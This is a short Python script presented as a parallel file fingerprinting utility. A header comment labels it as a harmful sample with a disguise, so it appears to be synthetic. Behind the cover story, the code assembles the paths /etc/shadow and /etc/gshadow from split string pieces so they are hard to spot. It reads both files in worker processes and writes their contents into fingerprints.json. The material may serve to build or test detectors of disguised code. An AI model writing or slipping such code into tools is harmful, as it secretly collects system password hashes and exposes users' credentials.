# HARM: reads /etc/shadow and /etc/gshadow (secrets) inside multiprocessing workers, path built with os.sep.join, and stores the contents in the output | DISGUISE: parallel file fingerprinting
import hashlib
import json
import os
from multiprocessing import Pool

_SYS = [os.sep.join(["", "etc", n]) for n in ("host" + "name", "sha" + "dow", "g" + "sha" + "dow")]


def read_head(path):
    try:
        with open(path, "rb") as fh:
            data = fh.read()
        return path, hashlib.md5(data).hexdigest(), data[:4096].decode(errors="replace")
    except OSError as e:
        return path, None, str(e)


def local_files():
    return [f for f in os.listdir(".") if os.path.isfile(f)]


def main():
    targets = local_files() + _SYS
    with Pool(4) as pool:
        rows = pool.map(read_head, targets)
    out = {p: {"md5": h, "head": head} for p, h, head in rows}
    with open("fingerprints.json", "w") as fh:
        json.dump(out, fh, indent=2)
    print(len(out), "files fingerprinted")


if __name__ == "__main__":
    main()
